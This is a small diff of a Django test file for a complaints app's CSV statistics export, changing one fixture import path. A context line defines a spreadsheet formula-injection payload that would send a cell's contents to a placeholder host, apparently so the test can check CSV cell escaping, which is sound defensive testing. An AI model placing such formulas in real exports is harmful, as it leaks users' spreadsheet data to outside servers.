@@ -11,7 +11,7 @@ from django.core.management import call_command
 from complaints.api.stats import CSVRenderer
 from complaints.csv_cells import csv_cell, csv_row
 from complaints.services.statistics import statistics_refresh
-from tests.complaints.test_public import public_world
+from tests.complaints.views.test_public import public_world
 
 HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"details")'
 
